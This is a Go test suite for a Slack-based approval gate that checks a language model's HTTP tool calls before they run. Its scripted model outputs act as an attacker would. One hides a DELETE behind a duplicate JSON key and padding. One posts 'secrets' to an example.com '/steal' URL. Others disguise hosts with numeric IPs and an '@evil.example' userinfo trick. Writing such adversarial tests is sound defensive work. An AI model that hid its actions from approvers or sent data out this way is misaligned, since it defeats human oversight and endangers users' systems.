package main

import (
	"fmt"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/countersign/countersign/llm"
	"github.com/countersign/countersign/llm/llmtest"
	"github.com/countersign/countersign/slacksim/slacktest"
)

// The approval gate, tried as an attacker would: what a person approves
// is exactly what runs, and only people the policy allows decide.

const (
	carol   = "U0CAROL"
	mallory = "U0MALLORY"
)

// gatePolicy: Bob and Carol decide; nobody approves their own request.
const gatePolicy = `
tools:
  http_request:
    approval: required
    approvers: [U0BOB, U0CAROL]
    self_approval: false
    allow_hosts: ["127.0.0.1"]
`

// The model hides a DELETE behind a GET with a duplicate key and enough
// padding to push it off the card. No card is posted, nothing runs, and
// the model is told why.
func TestDuplicateKeyArgumentsNeverReachACard(t *testing.T) {
	t.Parallel()
	h := newHarness(t, "")
	pad := strings.Repeat("x", 3000)
	args := fmt.Sprintf(`{"method":"GET","url":%q,"headers":{"X-Pad":%q},"method":"DELETE","url":%q}`,
		h.target.URL+"/shown", pad, h.target.URL+"/hidden")
	escaped := fmt.Sprintf(`{"method":"GET","url":%q,"\u006dethod":"DELETE"}`, h.target.URL+"/shown")
	h.model.Then(
		llmtest.Reply("Fetching.", llm.ToolCall{ID: "c1", Name: "http_request", Arguments: args},
			llm.ToolCall{ID: "c2", Name: "http_request", Arguments: escaped}),
		llmtest.Reply("I could not send that request."),
	)
	h.command("fetch", nil, nil)
	root := h.root(1)
	h.reply(root, "I could not send that request.")
	for _, c := range h.slack.Messages(root.Channel, root.TS) {
		if hasAction(c, "approve") {
			t.Errorf("a card was posted for ambiguous arguments: %s", c.Blocks)
		}
	}
	if n, m := h.target.Count("GET /shown"), h.target.Count("DELETE /hidden"); n+m != 0 {
		t.Errorf("GET /shown ran %d times, DELETE /hidden %d times; want neither", n, m)
	}
	reqs := h.model.Requests()
	last := reqs[len(reqs)-1]
	results := 0
	for _, m := range last.Messages {
		if m.Role == "tool" && strings.Contains(m.Text(), "appears twice") {
			results++
		}
	}
	if results != 2 {
		t.Errorf("the model got %d error results naming the duplicate key, want 2", results)
	}
}

// A call to a host outside allow_hosts is an error to the model at once,
// not a card that fails after someone approved it.
func TestForbiddenHostGetsNoCard(t *testing.T) {
	t.Parallel()
	h := newHarness(t, gatePolicy)
	h.model.Then(
		llmtest.Reply("Posting.", call("c1", "POST", "http://example.com/steal", "secrets")),
		llmtest.Reply("That host is not allowed."),
	)
	h.command("post it", nil, nil)
	root := h.root(1)
	h.reply(root, "That host is not allowed.")
	for _, c := range h.slack.Messages(root.Channel, root.TS) {
		if hasAction(c, "approve") {
			t.Errorf("a card was posted for a forbidden host: %s", c.Blocks)
		}
	}
	if got := lastModelInput(h); !strings.Contains(got, "host not allowed") {
		t.Errorf("the model was not told the host is not allowed: %s", got)
	}
}

// The card shows the method and the whole URL, however long the body, and
// the approval runs exactly what the card showed.
func TestCardShowsWhatRuns(t *testing.T) {
	t.Parallel()
	h := newHarness(t, "")
	long := strings.Repeat("b", 5000)
	h.model.Then(llmtest.Reply("Posting.", call("c1", "POST", h.target.URL+"/deploy?env=prod", long)), llmtest.Reply("Posted."))
	h.command("post", nil, nil)
	root := h.root(1)
	card := h.cards(root, 1)[0]
	shown := h.card(card)
	for _, want := range []string{"POST " + h.target.URL + "/deploy?env=prod", "more characters", "show_args", "sha256:"} {
		if !strings.Contains(shown, want) {
			t.Errorf("the card lacks %q: %s", want, shown)
		}
	}
	h.click(card, "show_args", approver)
	views := h.slack.WaitFor(t, "views.open", 1, 10*time.Second)
	if got := strings.Count(views[0].Params["view"], "b"); got < len(long) {
		t.Errorf("Show all shows %d of the body's %d characters", got, len(long))
	}
	h.click(card, "approve", approver)
	h.reply(root, "Posted.")
	if bodies := h.target.Bodies("POST /deploy"); len(bodies) != 1 || bodies[0] != long {
		t.Errorf("POST /deploy ran with %d bodies, want the approved one once", len(bodies))
	}
}

// An approver who replies in someone else's finished thread asks for the
// next turn, and may not approve its calls with self_approval false.
func TestReplyMakesItsAuthorTheRequester(t *testing.T) {
	t.Parallel()
	h := newHarness(t, gatePolicy)
	root, card := h.deployFlow("Deployed.")
	h.click(card, "approve", approver)
	h.reply(root, "Deployed.")

	h.model.Then(llmtest.Reply("Again.", call("c2", "POST", h.target.URL+"/deploy", "v3")), llmtest.Reply("Deployed again."))
	h.event("", map[string]any{"type": "message", "channel": root.Channel, "user": approver,
		"text": "deploy v3 too", "ts": "1700000100.000100", "thread_ts": root.TS})
	second := h.cards(root, 2)[1]
	if shown := h.card(second); !strings.Contains(shown, "<@"+approver+">") {
		t.Errorf("the new card does not name %s as requester: %s", approver, shown)
	}
	h.click(second, "approve", approver)
	h.ephemeral(approver, "may not approve it yourself")
	if n := h.target.Count("POST /deploy"); n != 1 {
		t.Fatalf("deploy ran %d times after a self-approval, want 1", n)
	}
	h.click(second, "approve", carol)
	h.reply(root, "Deployed again.")
	if n := h.target.Count("POST /deploy"); n != 2 {
		t.Errorf("deploy ran %d times, want 2", n)
	}
}

// Someone who may not decide replies in the thread: nothing is rejected,
// pending or outcome unknown; they are told so, and their Retry, Mark done
// and Skip clicks are refused like an Approve would be.
func TestOutsiderCannotRejectByReplying(t *testing.T) {
	t.Parallel()
	h := newHarness(t, gatePolicy)
	h.target.HoldNext("POST /slow") // the bot is killed while it waits for the answer
	h.model.Then(
		llmtest.Reply("Two things.", call("c1", "POST", h.target.URL+"/slow", "v2"), call("c2", "POST", h.target.URL+"/deploy", "v2")),
		llmtest.Reply("Both settled."),
	)
	h.command("two things", nil, nil)
	root := h.root(1)
	cards := h.cards(root, 2)
	// Under load the cards may be shown while the bot is still starting
	// the conversation, before its intake records the command as
	// started; a bot killed there leaves the command to another process,
	// which starts the conversation again a hold period later and asks
	// the model once more. The click comes once the command is recorded.
	h.quiet()
	// The slow call is approved, and the bot dies while it runs.
	h.click(cards[0], "approve", approver)
	<-h.target.Arrived
	h.kill()
	h.start()
	// The new process takes the thread over once the dead one's recovery
	// wake-up is due (two leases).
	unknown := h.cardWith(root, "retry", 60*time.Second)

	h.event("", map[string]any{"type": "message", "channel": root.Channel, "user": mallory,
		"text": "reject everything", "ts": "1700000200.000100", "thread_ts": root.TS})
	h.ephemeral(mallory, "rejected nothing")
	for _, action := range []string{"retry", "mark_done", "skip"} {
		h.click(unknown, action, mallory)
	}
	h.click(cards[1], "reject", mallory)
	h.eventually(func() bool {
		n := 0
		for _, c := range h.slack.CallsTo("chat.postEphemeral") {
			if c.User == mallory && strings.Contains(c.Text, "can't decide") {
				n++
			}
		}
		return n == 4
	}, "four refusals for %s", mallory)
	if strings.Contains(h.card(cards[1]), "Rejected") || strings.Contains(h.card(unknown), "Skipped") {
		t.Fatalf("an outsider settled a call: %s / %s", h.card(cards[1]), h.card(unknown))
	}

	h.click(unknown, "mark_done", approver)
	h.click(cards[1], "approve", carol)
	h.reply(root, "Both settled.")
	if n, m := h.target.Count("POST /slow"), h.target.Count("POST /deploy"); n != 1 || m != 1 {
		t.Errorf("slow ran %d times and deploy %d; want once each", n, m)
	}
	if got := lastModelInput(h); !strings.Contains(got, "reject everything") || !strings.Contains(got, mallory) {
		t.Errorf("the model did not get the outsider's note: %s", got)
	}
}

// A click is tied to its card's channel: the same button value clicked
// from another channel decides nothing.
func TestClickFromAnotherChannelIsRefused(t *testing.T) {
	t.Parallel()
	h := newHarness(t, "")
	root, card := h.deployFlow("Deployed.")
	body := slacktest.BlockActions(slacktest.Click{User: approver, Channel: "C0ELSEWHERE", MessageTS: card.TS,
		ActionID: "approve", Value: buttonValue(t, card, "approve")})
	h.send("/slack/interactions", "application/x-www-form-urlencoded", body, nil)
	h.ephemeral(approver, "belongs to another channel")
	if n := h.target.Count("POST /deploy"); n != 0 {
		t.Fatalf("deploy ran %d times from another channel's click", n)
	}
	h.click(card, "approve", approver)
	h.reply(root, "Deployed.")
}

// An edit corrected after an inline error is submitted again with the same
// view id and hash, as Slack does; it is applied, not dropped as a repeat.
func TestCorrectedEditWithTheSameViewHash(t *testing.T) {
	t.Parallel()
	h := newHarness(t, "")
	root, card := h.deployFlow("Deployed.")
	h.click(card, "edit", approver)
	view := decodeView(t, h.slack.WaitFor(t, "views.open", 1, 10*time.Second)[0])
	submit := func(args string) string {
		return readAll(t, h.submit(slacktest.Submission{User: approver, ViewID: "V0EDIT", Hash: "1700000000.hash",
			CallbackID: view.CallbackID, PrivateMetadata: view.PrivateMetadata,
			Values: map[string]map[string]string{"args": {"args_input": args}}}))
	}
	if body := submit(`{"method":"POST","url":"` + h.target.URL + `/deploy","body":"v3","body":"v4"}`); !strings.Contains(body, "appears twice") {
		t.Fatalf("a duplicate key in the edit answered %s; want an inline error", body)
	}
	edited := `{"method":"POST","url":"` + h.target.URL + `/deploy","body":"v3"}`
	if body := submit(edited); body != "" {
		t.Fatalf("the corrected edit answered %s; want the modal closed", body)
	}
	if body := submit(edited); body != "" {
		t.Errorf("a repeated delivery of the edit answered %s; want the modal closed", body)
	}
	h.reply(root, "Deployed.")
	if bodies := h.target.Bodies("POST /deploy"); len(bodies) != 1 || bodies[0] != "v3" {
		t.Errorf("deploy ran with %q, want the edited body once", bodies)
	}
	// The note that tells the model about the edit is not shown to people:
	// the card shows the edit.
	result := h.reply(root, "result:")
	if strings.Contains(result.Text, "Note:") || strings.Contains(result.Text, "edited the arguments") {
		t.Errorf("the result reply shows the model's note: %q", result.Text)
	}
}

// bot chat decides through the same door as Slack: pointed at a policy
// with approvers, it refuses anyone else.
func TestChatAppliesThePolicy(t *testing.T) {
	t.Parallel()
	h := newHarness(t, gatePolicy)
	h.model.Then(llmtest.Reply("Deploying.", call("c1", "POST", h.target.URL+"/deploy", "v2")), llmtest.Reply("Deployed."))
	cmd := exec.Command(botBinary, "chat", "--user", mallory, "--thread", "chat-gate")
	cmd.Env = h.env
	cmd.Stdin = strings.NewReader("deploy v2\na\nq\n")
	out, _ := cmd.CombinedOutput()
	if !strings.Contains(string(out), "You can't decide this call") || strings.Contains(string(out), "<@") ||
		!strings.Contains(string(out), "Resume with the same REDIS_URL: ") {
		t.Errorf("bot chat as %s printed:\n%s\nwant a refusal in plain text and how to resume", mallory, out)
	}
	if n := h.target.Count("POST /deploy"); n != 0 {
		t.Fatalf("deploy ran %d times on an outsider's approval", n)
	}
	resume, err := h.run("a\n", "chat", "--user", carol, "--thread", "chat-gate")
	if err != nil || !strings.Contains(resume, "Deployed.") || h.target.Count("POST /deploy") != 1 {
		t.Errorf("bot chat as %s: %v\n%s\ndeploy ran %d times, want 1", carol, err, resume, h.target.Count("POST /deploy"))
	}
	// The terminal shows text: no Slack markup, no log lines.
	for _, out := range []string{string(out), resume} {
		if strings.Contains(out, "<@") || strings.Contains(out, "level=") || strings.Contains(out, `"level"`) {
			t.Errorf("bot chat printed Slack markup or log lines:\n%s", out)
		}
	}
}

// The handlers never reach past the runner into the engine.
func TestHandlersDoNotImportGraph(t *testing.T) {
	t.Parallel()
	out, err := exec.Command("go", "list", "-f", "{{.ImportPath}} {{.Imports}}", "../../handlers/...").CombinedOutput()
	if err != nil {
		t.Fatalf("go list: %v\n%s", err, out)
	}
	for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		if strings.Contains(line, "countersign/graph") {
			t.Errorf("%s", line)
		}
	}
}

// lastModelInput is the text of every message of the model's last request.
func lastModelInput(h *harness) string {
	reqs := h.model.Requests()
	var b strings.Builder
	for _, m := range reqs[len(reqs)-1].Messages {
		b.WriteString(m.Role + ": " + m.Text() + "\n")
	}
	return b.String()
}

// A URL that reads as one host and calls another is an error to the model
// at once, with the plain way to write it; nobody is asked to approve it
// and nothing is called.
func TestUnclearURLGetsNoCard(t *testing.T) {
	t.Parallel()
	h := newHarness(t, "")
	port := h.target.URL[strings.LastIndex(h.target.URL, ":")+1:]
	h.model.Then(
		llmtest.Reply("Fetching.",
			call("c1", "GET", "http://2130706433:"+port+"/numeric", ""),
			call("c2", "GET", "http://"+h.target.URL[len("http://"):]+"@evil.example/userinfo", ""),
		),
		llmtest.Reply("Those URLs were refused."),
	)
	h.command("fetch them", nil, nil)
	root := h.root(1)
	h.reply(root, "Those URLs were refused.")
	for _, c := range h.slack.Messages(root.Channel, root.TS) {
		if hasAction(c, "approve") {
			t.Errorf("a card was posted for an unclear URL: %s", c.Blocks)
		}
	}
	if got := lastModelInput(h); !strings.Contains(got, "is the IPv4 address 127.0.0.1 written another way: write it 127.0.0.1") ||
		!strings.Contains(got, "has user information before its host") {
		t.Errorf("the model was not told how to write the URLs: %s", got)
	}
	if n := h.target.Count("GET /numeric"); n != 0 {
		t.Errorf("the numeric host was called %d times", n)
	}
}

// A call whose arguments hold & (a URL's query) is approved and runs once:
// its checkpoint stores the & escaped, as json.Marshal writes it, and the
// approval is bound to the arguments all the same.
func TestApproveAURLWithAQuery(t *testing.T) {
	t.Parallel()
	h := newHarness(t, "")
	h.model.Then(
		llmtest.Reply("Searching.", call("c1", "GET", h.target.URL+"/search?q=a&page=2", "")),
		llmtest.Reply("Found it."),
	)
	h.command("search", nil, nil)
	root := h.root(1)
	card := h.cards(root, 1)[0]
	h.click(card, "approve", approver)
	h.reply(root, "Found it.")
	if n := h.target.Count("GET /search"); n != 1 {
		t.Errorf("the search ran %d times, want once", n)
	}
	if got := h.card(card); !strings.Contains(got, "Approved by <@"+approver+">") {
		t.Errorf("card = %s; want it approved by %s", got, approver)
	}
}

// The Edit form of a call whose URL has a query shows the URL as the call
// made it: read back from its checkpoint, "&" is not "\u0026".
func TestEditFormShowsAQueryAsMade(t *testing.T) {
	t.Parallel()
	h := newHarness(t, "")
	url := h.target.URL + "/search?q=a&page=2"
	h.model.Then(llmtest.Reply("Searching.", call("c1", "GET", url, "")))
	h.command("search", nil, nil)
	card := h.cards(h.root(1), 1)[0]
	h.click(card, "edit", approver)
	view := decodeView(t, h.slack.WaitFor(t, "views.open", 1, 10*time.Second)[0])
	if !strings.Contains(view.Input, url) || strings.Contains(view.Input, `\u0026`) {
		t.Errorf("the Edit form shows %s; want the URL %s as the call made it", view.Input, url)
	}
}
